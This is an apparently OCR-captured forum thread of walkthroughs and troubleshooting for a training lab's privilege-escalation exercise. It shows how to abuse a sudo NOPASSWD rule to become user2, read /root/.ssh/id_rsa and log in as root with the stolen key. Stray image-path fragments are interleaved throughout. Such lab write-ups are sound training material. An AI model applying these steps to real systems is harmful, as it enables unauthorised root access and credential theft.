Getting started | privilege escalation | quick solve

Hello, its x69h4ck3r here again.

I am gonna make this quick.

in other to solve this module, we need to gain access into the

target machine via ssh.

after that, we gain super user rights on the user2 user

then escalate our privilege to root user.please follow my steps,will try to make this as easy as possible.

Step 1: connect to target machine via ssh with the credential provided;
example; ssh -l user1 <target_ip> -p

Step 2: input the given password in the password field.

NB: password text do not show on unix systems.

Step 3: Once connected, verify the directory you are in.
example; whoami

Step 4: Once sure you are in user1, change directory to user2.
example; cd … && cd user2 # this command will put you in user2 directory

Step 5: use the comman below to check if the /bin/bash file is readable
without password.
example; sudo -l
output; env_reset, mail_badpass, secure_path=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/snap/bin

User user1 may run the following commands on gettingstartedprivesc-385616-5779f4664c-847tn:
(user2 : user2) NOPASSWD: /bin/bashfrom the output we see that, we can run the user2 without password,

so we try it on /bin/bash , if no error is gotten, we then procced

to getting our first flag.

Step 6: use this command to view the /flag.txt file
example; cat flag.txtin the /root/.ssh/id_rsa file hold the ssh key, if we can read that,

then we can use it to our advantage in connecting to the ssh

using the root user.

we first have to copy the ssh key, create a new file on our host

machine with the name “id_rsa” and paste the key in there, we will

using this file to connect to the target machine via ssh using the root


Step 1: Read the /root/.ssh/id_rsa file and copy the contents.
example; cat /root/.ssh/id_rsa # copy the contents (ssh key)

Step 2: on your target machine create a newfile “id_rsa” and paste the
copied contents in it.
example; nano id_rsa # once open, paste the copied contents (ssh key) and
# save.

Step 3: Cross-check you have done a good job by viewing the newly created
example; cat id_rsaStep 4: change the permissions on the newly created file to be more restrictive.
example; chmod 600 id_rsa

Step 5: Connect to the target server via ssh using the root as user and
the /id_rsa file for authentication, this way we can gain root access.
example; ssh root@<target_ip> -p -i id_rsa

Once connected, you will be in the root folder.

view the contents of the folder with the “ls” command

Step 6: Use the cat command to view the flag in the /flag.txt file
example; cat flag.txt

i hope it helps… Good luck. :slightly_smiling_face:

hello, when I log in I get this result, I followed everything the letter I do not understand can you help me pls " user2@gettingstartedprivesc-699870-6f6bc7fb57-nmgvg:~$ ssh -i /home/user2/id_rsa root@ -p30647
ssh: connect to host port 30647: Connection timed out

Having issues with this module. For some reason whenever I get tothe vim step it won’t let me save the ssh key (E212 error) I’ve tried everything else everyone hasrecommended and looked up as many videos as I can and none of it has worked so far. Any help would be greatly appreciated.

Prompt 1: SSH into the server above with the provided credentials, and use the ‘-p xxxxxx’ to specify the port shown above. Once you login, try to find a way to move to ‘user2’, to get the flag in ‘/home/user2/flag.txt’.

  • ssh [given user]@[given ip] -p [given port number of target IP]
  • sudo -l
  • sudo -su user2
  • cd ~
  • ls
  • cat flag.txt

Prompt 2: Once you gain access to ‘user2’, try to find a way to escalate your privileges to root, to get the flag in ‘/root/flag.txt’.

  • whoami
  • cat /root/.ssh/id_rsa
  • copy results
  • cd ~

On a new cmd console (not within user2 of target ip but a cmd on the hackthebox user home) :

  • vim id_rsa
  • paste contents into id_rsaNote: You can delete lines with the shift + v for visual mode (should not need to complete exercise). Source: [How can I delete multiple lines in vi? - Stack Overflow]
(How can I delete multiple lines in vi? - Stack Overflow)

Note: You can also edit individual characters within the vim by pressing ‘i’ (should not need to complete exercise). Press esc to exit INSERT mode. Source: How To Edit A File Using Vim On A Linux System – Systran Box


  • Compare cat of id_rsa to cat/root/.ssh/id_rsa

Note: You can also check the word-counts of both files with: wc /home/user2/id_rsa


  • chmod 600 id_rsa
  • ssh root@ -p -i id_rsa

Note: You do not need to provide a path to the file; this is most likely due to the fact the hackthebox homd cmd console nothaving a id_rsa file


  • ls
  • cat flag.txt

Notable commands attempted during exercise (should not need to complete the exercise):
1). You can check your current directory in linux with: pwd

2). You can also cancel a bad command with: shift + z


does copy paste work?

a big issue i was having not copying the WHOLE shh file including the start and end key lines.

Hello all, I have a question about the privet key (id_rsa) why it’s not going to work if it has any other different name then id+rsa?
Itried to name it key or pk but it didn’t work, is it somethingrelated to how the lad was set?